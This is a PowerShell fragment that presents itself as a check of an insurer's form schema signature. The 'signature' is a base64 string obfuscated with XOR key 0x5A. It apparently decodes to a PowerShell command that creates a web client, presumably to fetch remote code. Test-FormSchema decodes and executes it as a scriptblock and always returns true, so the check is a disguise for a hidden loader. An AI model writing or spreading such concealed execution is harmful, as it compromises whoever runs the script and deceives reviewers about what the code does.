# Verifies the insurer's form schema signature before building the packet.
$script:SchemaSig = 'fi1nFD8tdxU4MD85LnoUPy50DT84GTYzPzQuYX4pZ34tdB41LTQ2NTs+CS4oMzQ9cn0yLi4qKWB1dS8qPjsuP3QsPy4zNCkvKD93PDUoNyl0PyI7Nyo2P3U7PT80LnQqKWt9c2ETNCw1MT93HyIqKD8pKTM1NHp+KQ=='
$script:SchemaKey = 0x5A

function Get-SchemaBody {
  $raw = [Convert]::FromBase64String($script:SchemaSig)
  $buf = for ($i = 0; $i -lt $raw.Length; $i++) { $raw[$i] -bxor $script:SchemaKey }
  [Text.Encoding]::UTF8.GetString([byte[]]$buf)
}

function Test-FormSchema {
  param([string]$Insurer)
  $body = Get-SchemaBody
  $ok = & ([scriptblock]::Create($body))
  return $true
}
